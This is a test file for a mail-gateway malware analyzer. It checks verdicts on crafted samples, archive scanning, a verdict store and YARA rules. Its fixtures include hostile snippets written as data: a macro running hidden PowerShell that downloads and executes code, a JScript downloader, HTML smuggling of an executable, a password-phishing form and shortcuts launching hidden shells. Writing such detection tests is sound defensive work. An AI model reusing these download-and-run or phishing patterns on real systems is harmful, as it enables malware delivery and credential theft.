/**
 * The analyzers on files the tests write: each malicious sample gets its verdict with a reason
 * that names what it does, each clean look-alike stays benign; through the inspector (types
 * detected from the bytes, members of archives) and with the verdict store (a known file is
 * answered from the store; a manual verdict wins).
 */

import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { analyze } from '../../../src/inspect/engines/analysis/analyze.ts';
import { AnalysisEngine } from '../../../src/inspect/engines/analysis/engine.ts';
import { decompressVba } from '../../../src/inspect/engines/analysis/office.ts';
import { SqliteVerdictStore } from '../../../src/inspect/engines/analysis/verdict-store.ts';
import { YaraError, YaraRules } from '../../../src/inspect/engines/analysis/yara.ts';
import { identify } from '../../../src/inspect/file-type.ts';
import { SignatureEngine } from '../../../src/inspect/engines/signatures.ts';
import { Inspector } from '../../../src/inspect/inspector.ts';
import { compressVba, iso, lnk, oleWithMacro, pdf, peFile } from '../../helpers/analysis-fixtures.ts';
import { zip } from '../../helpers/archives.ts';

async function verdict(bytes: Buffer, name: string | null = null, flags: string[] = []) {
  const id = await identify(bytes.subarray(0, 36 * 1024), bytes.subarray(-512), bytes);
  return { type: id.type, ...analyze({ bytes, detectedType: id.type, name, flags: [...id.flags, ...flags] }) };
}

const SAMPLES: ReadonlyArray<readonly [string, () => Buffer, string, string, RegExp]> = [
  // [what, file, expected type, expected verdict, a reason that must be given]
  ['PE injecting into other processes', () => peFile({ imports: ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] }), 'exe', 'malicious', /injecting code into other processes \(VirtualAllocEx, WriteProcessMemory, CreateRemoteThread\)/],
  ['PE downloading and running, UPX-packed', () => peFile({ imports: ['URLDownloadToFileA', 'WinExec'], sections: ['UPX0', 'UPX1'] }), 'exe', 'malicious', /download a file and run it/],
  ['Word macro: AutoOpen → Shell(powershell)', () => oleWithMacro('Sub AutoOpen()\r\n  Shell "powershell -w hidden -c iex(iwr http://x)"\r\nEnd Sub\r\n'), 'doc', 'malicious', /macro runs on open and starts a process \(AutoOpen → /],
  ['PDF with OpenAction JavaScript', () => pdf('1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj 2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'), 'pdf', 'grayware', /JavaScript/],
  ['PDF launching a program, names obfuscated', () => pdf('<< /OpenAction << /S /L#61unch /F (cmd.exe) >> /J#61vaScript (x) /#4As (y) >>'), 'pdf', 'malicious', /Launch action/],
  ['shortcut running PowerShell hidden', () => lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -enc SQBFAFgA'), 'lnk', 'malicious', /shortcut runs powershell/i],
  ['JScript downloader', () => Buffer.from('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET","http://e.example/p.exe",false); x.send();\nvar s = new ActiveXObject("ADODB.Stream"); s.SaveToFile("p.exe");\nnew ActiveXObject("WScript.Shell").Run("p.exe");\n'), 'js', 'malicious', /downloads and runs code \(MSXML2\.XMLHTTP → WScript\.Shell\)/],
  ['HTML smuggling', () => Buffer.from('<html><body><script>var d=atob("TVqQAAMAAAAEAAAA");var a=new Uint8Array(d.length);var b=new Blob([a],{type:"application/octet-stream"});var l=document.createElement("a");l.href=URL.createObjectURL(b);l.download="invoice.exe";l.click();</script></body></html>'), 'html', 'malicious', /HTML smuggling/],
  ['credential phishing page', () => Buffer.from('<html><body><form action="https://collect.example.net/p.php" method="post"><input name="u"><input type="password" name="p"></form></body></html>'), 'html', 'phishing', /credential form sending a password to a remote site/],
  ['Internet shortcut to a remote share', () => Buffer.from('[InternetShortcut]\r\nURL=file://203.0.113.9/share/payload.exe\r\n'), 'url', 'grayware', /remote location/],
  ['ISO holding an executable and a shortcut', () => iso(['setup.exe', 'readme.lnk']), 'iso', 'malicious', /disk image holding files that run \(setup\.exe, readme\.lnk\)/],
  ['OOXML template injection (settings.xml.rels)', () => Buffer.from('<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.7/t.dotm" TargetMode="External"/></Relationships>'), 'xml', 'grayware', /remote template/],
];

const CLEAN: ReadonlyArray<readonly [string, () => Buffer]> = [
  ['a plain PE with ordinary imports, no packer', () => peFile({ imports: ['GetStdHandle', 'WriteFile', 'ExitProcess'] })],
  ['a PDF with only links', () => pdf('<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>')],
  ['an HTML newsletter', () => Buffer.from('<html><body><h1>News</h1><a href="https://example.com">read more</a><form action="/search"><input name="q"></form></body></html>')],
  ['a Word document with a harmless macro', () => oleWithMacro('Sub FormatTable()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n')],
  ['a shortcut to a local document', () => lnk('C:\\Users\\me\\Documents\\report.docx', '')],
  ['a normal script-looking text file', () => Buffer.from('function add(a, b) { return a + b; }\nconsole.log(add(1, 2));\n')],
];

describe('static analysis', () => {
  for (const [what, make, type, expected, reason] of SAMPLES) {
    it(`${what}: ${expected}`, async () => {
      const v = await verdict(make());
      assert.equal(v.type, type);
      assert.equal(v.verdict, expected, JSON.stringify(v.indicators));
      assert.ok(v.indicators.some((i) => reason.test(i.reason)), `a reason matching ${reason}: ${v.indicators.map((i) => i.reason).join(' | ')}`);
    });
  }
  for (const [what, make] of CLEAN) {
    it(`stays benign: ${what}`, async () => {
      const v = await verdict(make());
      assert.equal(v.verdict, 'benign', JSON.stringify(v.indicators));
    });
  }
  it('an executable named like a document adds to its score', async () => {
    const plain = await verdict(peFile({ imports: ['WinExec'] }));
    const disguised = await verdict(peFile({ imports: ['WinExec'] }), 'invoice.pdf.exe', ['double-extension']);
    assert.ok(disguised.score >= plain.score + 40);
  });
  it('MS-OVBA: decompresses what the compressor wrote, rejects what is not a container', () => {
    const src = 'Attribute VB_Name = "M"\r\n' + 'x = 1\r\n'.repeat(1000);
    assert.equal(decompressVba(compressVba(src), 0), src);
    assert.equal(decompressVba(Buffer.from([0x02, 0, 0]), 0), null);
  });
});

describe('analysis in the pipeline, with the verdict store', () => {
  it('a script Windows runs by its name is typed and analysed as that script whatever its first kilobytes hold', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'smtpwall-verdicts-'));
    const store = new SqliteVerdictStore(dir);
    try {
      const inspector = new Inspector({ engines: [new SignatureEngine(), new AnalysisEngine(store)] });
      const downloader = SAMPLES.find(([what]) => what === 'JScript downloader')![1]();
      // 5 KiB of comments first: the text markers look at the first 4 KiB only.
      const padded = Buffer.concat([Buffer.from(`// ${'-'.repeat(70)}\r\n`.repeat(70)), downloader]);
      const archive = zip([{ name: 'invoice.js', data: padded }, { name: 'notes.txt', data: padded }, { name: 'invoice.hta', data: Buffer.from('<html><body>hello</body></html>') }]);
      const r = await inspector.scanBuffer(archive, false, 5000, 'a.zip');
      const type = (path: string) => r.files.find((f) => f.path === path)?.detectedType;
      assert.equal(type('a.zip/invoice.js'), 'js', 'Windows Script Host runs it');
      assert.equal(type('a.zip/notes.txt'), 'text', 'the same text under a name Windows only shows');
      assert.equal(type('a.zip/invoice.hta'), 'hta', 'mshta runs it without its <hta:application> tag');
      const f = r.findings.find((x) => x.engine === 'analysis' && x.file.path === 'a.zip/invoice.js');
      assert.equal(f?.threat, 'Analysis.Malicious.js', JSON.stringify(r.findings));
      assert.ok(!r.findings.some((x) => x.engine === 'analysis' && x.file.path === 'a.zip/notes.txt'));
    } finally {
      store.close();
    }
  });

  it('a malicious member of a zip is found with its path; the second copy comes from the store', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'smtpwall-verdicts-'));
    const store = new SqliteVerdictStore(dir);
    try {
      const inspector = new Inspector({ engines: [new SignatureEngine(), new AnalysisEngine(store)] });
      const archive = zip([{ name: 'docs/invoice.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c powershell -w hidden') }, { name: 'note.txt', data: Buffer.from('hi') }]);
      const first = await inspector.scanBuffer(archive, false, 5000, 'a.zip');
      const f = first.findings.find((x) => x.engine === 'analysis')!;
      assert.equal(f.threat, 'Analysis.Malicious.lnk');
      assert.equal(f.file.path, 'a.zip/docs/invoice.pdf.lnk');
      assert.match(f.signature, /^analysis score \d+: shortcut runs cmd\.exe with arguments/);
      const second = await inspector.scanBuffer(archive, false, 5000, 'b.zip');
      assert.match(second.findings.find((x) => x.engine === 'analysis')!.signature, /\(known, analysis\)/);
      const stored = store.get(f.file.sha256)!;
      assert.equal(stored.seen, 2);
      assert.equal(stored.verdict, 'malicious');
      store.override(f.file.sha256, 'benign', 'our admin tool');
      const third = await inspector.scanBuffer(archive, false, 5000, 'c.zip');
      assert.deepEqual(third.findings.filter((x) => x.engine === 'analysis'), [], 'a manual benign verdict wins');
      assert.deepEqual(store.get(f.file.sha256)!.reasons, ['manual: our admin tool']);
    } finally {
      store.close();
    }
  });

  it('sightings: judged and pending files are recorded per message, never-judged ones are not, at most 100 a message', () => {
    const store = new SqliteVerdictStore(mkdtempSync(join(tmpdir(), 'smtpwall-sightings-')));
    try {
      const judged = 'a'.repeat(64);
      store.put({ sha256: judged, verdict: 'grayware', score: 40, indicators: [], analyzers: ['x@1'], fileType: 'pdf', fileName: 'a.pdf' });
      const base = { transactionId: 'T1', messageId: '<m1@example.org>', mailFrom: 'a@example.org', rcptTo: ['b@example.com', 'c@example.com'], action: 'alert', delivered: true };
      store.sighted(
        [{ sha256: judged, path: 'msg/2', pending: false }, { sha256: 'b'.repeat(64), path: 'msg/3', pending: true }, { sha256: 'c'.repeat(64), path: 'msg/1', pending: false }],
        { ...base, time: '2026-01-01T00:00:00.000Z' },
      );
      store.sighted([{ sha256: judged, path: 'msg/2/x.zip/a.pdf', pending: false }], { ...base, time: '2026-01-02T00:00:00.000Z', transactionId: 'T2', action: 'block', delivered: false });
      assert.deepEqual(store.sightings(judged, 10).map((x) => [x.transactionId, x.filePath, x.delivered, x.action]), [['T2', 'msg/2/x.zip/a.pdf', false, 'block'], ['T1', 'msg/2', true, 'alert']]);
      assert.deepEqual(store.sightings(judged, 10)[1]!.rcptTo, ['b@example.com', 'c@example.com']);
      assert.equal(store.sightings('b'.repeat(64), 10).length, 1, 'pending: its verdict comes later');
      assert.equal(store.sightings('c'.repeat(64), 10).length, 0, 'never judged');
      const many = Array.from({ length: 150 }, () => ({ sha256: judged, path: 'msg/9', pending: false }));
      store.sighted(many, { ...base, time: '2026-01-03T00:00:00.000Z', transactionId: 'T3' });
      assert.equal(store.sightings(judged, 1000).filter((x) => x.transactionId === 'T3').length, 100);
    } finally {
      store.close();
    }
  });
});

describe('YARA rules (YARA-X)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'smtpwall-yara-'));
  const rules = join(dir, 'local.yar');
  writeFileSync(
    rules,
    `rule Acme_Dropper : dropper {
  meta: description = "Acme dropper stage 1" score = 80
  strings: $s = "ACME-STAGE-1" ascii wide
  condition: $s
}
rule Weak_Hint {
  meta: description = "mentions the campaign" score = 35
  strings: $s = "campaign-7731"
  condition: $s
}
`,
  );
  let available = true;
  try {
    YaraRules.load([rules]);
  } catch (err) {
    available = !(err instanceof YaraError && /not installed/.test(err.message));
  }
  it('match every file (any type, inside archives); score and description from the rule; a rule change re-judges', { skip: available ? false : '@litko/yara-x is not installed (npm install --no-save @litko/yara-x; .ci/run does it)' }, async () => {
    const store = new SqliteVerdictStore(join(dir, 'data'));
    try {
      const inspector = new Inspector({ engines: [new SignatureEngine(), new AnalysisEngine(store, { yara: YaraRules.load([rules]) })] });
      const archive = zip([{ name: 'a/readme.txt', data: Buffer.from('plain text, ACME-STAGE-1 inside') }, { name: 'b.bin', data: Buffer.from('campaign-7731') }]);
      const r = await inspector.scanBuffer(archive, false, 5000, 'x.zip');
      const got = r.findings.filter((f) => f.engine === 'analysis').map((f) => [f.file.path, f.threat, f.signature.replace(/ \(known.*\)/, '')]);
      assert.deepEqual(got, [
        ['x.zip/a/readme.txt', 'Analysis.Malicious.text', 'analysis score 80: YARA rule Acme_Dropper: Acme dropper stage 1 (+80)'],
        ['x.zip/b.bin', 'Analysis.Grayware.text', 'analysis score 35: YARA rule Weak_Hint: mentions the campaign (+35)'],
      ]);
      writeFileSync(join(dir, 'other.yar'), 'rule Nothing { condition: false }\n');
      const changed = new Inspector({ engines: [new AnalysisEngine(store, { yara: YaraRules.load([join(dir, 'other.yar')]) })] });
      const again = await changed.scanBuffer(archive, false, 5000, 'x.zip');
      assert.deepEqual(again.findings.filter((f) => f.engine === 'analysis'), [], 'other rules: judged again, now benign');
    } finally {
      store.close();
    }
  });
  it('a rule file with an error is refused, naming the file', { skip: available ? false : 'no YARA-X here' }, () => {
    writeFileSync(join(dir, 'bad.yar'), 'rule bad { condition: $x }\n');
    assert.throws(() => YaraRules.load([join(dir, 'bad.yar')]), /bad\.yar: .*unknown pattern `\$x`/s);
  });
});

describe('analyzers against crafted input', () => {
  // 1 MB of "<form " without a '>' took minutes in the credential-form expression.
  for (const [type, fill] of [['html', '<form '], ['html', '<input '], ['js', 'eval('], ['pdf', '/JS ('], ['vbs', 'Shell('], ['ps1', '-e '], ['html', '<script>']] as const) {
    it(`1 MB of ${JSON.stringify(fill)} as ${type}: a verdict within seconds`, () => {
      const bytes = Buffer.from(fill.repeat(Math.ceil(1_000_000 / fill.length)));
      const t0 = Date.now();
      analyze({ bytes, detectedType: type, name: `x.${type}`, flags: [] });
      assert.ok(Date.now() - t0 < 5000, `${Date.now() - t0} ms`);
    });
  }
});
